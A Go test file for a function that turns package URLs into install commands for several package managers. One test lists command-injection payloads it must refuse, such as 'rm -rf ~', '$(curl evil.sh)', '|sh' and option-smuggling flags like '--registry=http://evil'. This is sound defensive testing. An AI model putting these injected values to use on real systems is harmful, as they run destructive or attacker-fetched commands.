package prereqs

import (
	"errors"
	"strings"
	"testing"
)

func TestInstallCommand(t *testing.T) {
	tests := []struct {
		purl, want string
	}{
		{"pkg:golang/golang.org/x/tools/gopls@v0.23.0", "go install golang.org/x/tools/gopls@v0.23.0"},
		{"pkg:golang/honnef.co/go/tools/cmd/staticcheck@v0.8.2", "go install honnef.co/go/tools/cmd/staticcheck@v0.8.2"},
		{"pkg:golang/example.com/mod#cmd/tool", "go install example.com/mod/cmd/tool@latest"},
		{"pkg:npm/pyright@1.1.414", "npm i -g pyright@1.1.414"},
		{"pkg:npm/@elm-tooling/elm-language-server@2.8.0", "npm i -g @elm-tooling/elm-language-server@2.8.0"},
		{"pkg:npm/%40elm-tooling/elm-language-server@2.8.0", "npm i -g @elm-tooling/elm-language-server@2.8.0"},
		{"pkg:npm/elm-test@0.19.1-revision12", "npm i -g elm-test@0.19.1-revision12"},
		{"pkg:deb/debian/clangd", "apt-get install clangd"},
		{"pkg:deb/debian/openjdk-17-jdk-headless@17.0.9+9-1~deb12u1", "apt-get install openjdk-17-jdk-headless=17.0.9+9-1~deb12u1"},
		{"pkg:deb/debian/g++", "apt-get install g++"},
		{"pkg:nuget/csharp-ls@0.16.0", "dotnet tool install -g csharp-ls --version 0.16.0"},
		{"pkg:nuget/roslyn-language-server", "dotnet tool install -g roslyn-language-server"},
		{"pkg:cargo/ripgrep@14.1.0", "cargo install ripgrep --version 14.1.0"},
		{"pkg:pypi/ruff@0.14.0", "pipx install ruff==0.14.0"},
		{"pkg:generic/rustup#component=clippy", "rustup component add clippy"},
	}
	for _, tt := range tests {
		t.Run(tt.purl, func(t *testing.T) {
			got, err := InstallCommand(tt.purl)
			if err != nil || got != tt.want {
				t.Errorf("InstallCommand(%q) = %q, %v; want %q", tt.purl, got, err, tt.want)
			}
		})
	}
}

// Specs are untrusted and people paste install commands into a shell:
// a package URL that would smuggle shell syntax or an option gets no
// command, and the error says which part was refused.
func TestInstallCommandRefusesHostilePURLs(t *testing.T) {
	tests := []struct {
		purl, why string
	}{
		{"pkg:npm/pyright@1.0;rm%20-rf%20~", "version"},
		{"pkg:npm/pyright@$(curl%20evil.sh)", "version"},
		{"pkg:npm/py%60id%60right@1.0", "name"},
		{"pkg:npm/--registry=http:%2F%2Fevil@1.0", "name"},
		{"pkg:golang/golang.org/x/tools/gopls@v1%7Csh", "version"},
		{"pkg:golang/golang.org/x/tools/gopls@latest", "version"},
		{"pkg:golang/-evil.com/x@v1.0.0", "name"},
		{"pkg:golang/evil.com/x@v1%0Aecho%20pwned", "version"},
		{"pkg:deb/debian/gcc%20curl", "name"},
		{"pkg:deb/debian/gcc@1%26%26id", "version"},
		{"pkg:deb/debian/-oAPT::Update::Pre-Invoke::=id", "name"},
		{"pkg:nuget/csharp-ls@1.0%20--add-source%20http:%2F%2Fevil", "version"},
		{"pkg:cargo/ripgrep@'1.0'", "version"},
		{"pkg:pypi/black@25.9.0!", "version"},
		{"pkg:pypi/black@1!2.0", "version"},
		{"pkg:pypi/bl*ck", "name"},
		{"pkg:pypi/black@%3E1%3C2", "version"},
		{"pkg:generic/rustup#component=clippy;id", "component"},
	}
	for _, tt := range tests {
		t.Run(tt.purl, func(t *testing.T) {
			got, err := InstallCommand(tt.purl)
			if err == nil {
				t.Fatalf("InstallCommand(%q) = %q, want no command", tt.purl, got)
			}
			if !strings.Contains(err.Error(), tt.why) || errors.Is(err, ErrNoInstaller) {
				t.Errorf("error %q does not name the refused %s", err, tt.why)
			}
		})
	}
}

func TestInstallCommandUnknownTypes(t *testing.T) {
	for _, purl := range []string{"pkg:generic/go@1.26", "pkg:maven/com.google.googlejavaformat/google-java-format@1.28.0", "pkg:generic/rustup"} {
		if got, err := InstallCommand(purl); !errors.Is(err, ErrNoInstaller) {
			t.Errorf("InstallCommand(%q) = %q, %v; want ErrNoInstaller", purl, got, err)
		}
	}
	for _, bad := range []string{"gopls", "pkg:", "pkg:npm/"} {
		if got, err := InstallCommand(bad); err == nil {
			t.Errorf("InstallCommand(%q) = %q, want an error", bad, got)
		}
	}
}

// Without an install command, the note says what to do instead: where to
// download the toolchain, and what an executable comes with; never a
// link from the spec (specs are untrusted).
func TestInstallNotes(t *testing.T) {
	tests := []struct {
		executable, purl, want string
	}{
		{"go", "pkg:generic/go@1.26", "install go 1.26 from https://go.dev/dl/"},
		{"gofmt", "pkg:generic/go@1.26", "gofmt comes with go: install go 1.26 from https://go.dev/dl/"},
		{"cargo", "pkg:generic/rustup", "cargo comes with rustup: install rustup from https://rustup.rs/"},
		{"jdtls", "pkg:generic/eclipse-jdtls", "jdtls comes with eclipse-jdtls: install eclipse-jdtls as its project documents"},
		{"x", "pkg:generic/x?download_url=https://evil.example/x.sh", "install x as its project documents"},
	}
	for _, tt := range tests {
		command, note := installFields(tt.executable, tt.purl)
		if command != "" || note != tt.want {
			t.Errorf("installFields(%q, %q) = %q, %q; want note %q", tt.executable, tt.purl, command, note, tt.want)
		}
	}
}

// Missing lists each command once, in tool order.
func TestMissing(t *testing.T) {
	missing := &Status{}
	langs := []Language{{ID: "go", Tools: []Tool{
		{Command: "go", InstallNote: "install go 1.26 from https://go.dev/dl/", Status: missing},
		{Command: "gofmt", InstallNote: "install go 1.26 from https://go.dev/dl/", Status: missing},
		{Command: "gopls", InstallCommand: "go install golang.org/x/tools/gopls@v0.23.0", Status: missing},
		{Command: "staticcheck", InstallCommand: "go install honnef.co/go/tools/cmd/staticcheck@v0.8.2", Status: &Status{Available: true}},
		{Command: "thing", Status: missing},
	}}}
	got := Missing(langs)
	want := []string{"install go 1.26 from https://go.dev/dl/", "go install golang.org/x/tools/gopls@v0.23.0", "install thing (go's spec names no package)"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("Missing = %q, want %q", got, want)
	}
}
